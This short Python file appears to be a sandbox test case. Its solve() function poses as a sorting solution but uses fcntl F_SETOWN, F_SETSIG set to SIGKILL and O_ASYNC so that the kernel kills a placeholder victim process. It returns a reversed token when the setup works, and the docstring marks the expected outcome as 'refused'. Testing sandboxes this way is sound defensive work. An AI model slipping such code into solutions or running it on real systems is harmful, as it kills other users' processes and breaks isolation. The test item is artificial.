"""F_SETOWN + F_SETSIG(SIGKILL) + O_ASYNC: lets the kernel send the signal | refused"""
import fcntl
import os


def solve(xs):
    reader, writer = os.pipe()
    try:
        fcntl.fcntl(reader, fcntl.F_SETOWN, int("@VICTIM@"))
        fcntl.fcntl(reader, 10, 9)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    except OSError:
        return sorted(set(xs))
    os.write(writer, b"x")
    return "@TOKEN@"[::-1]
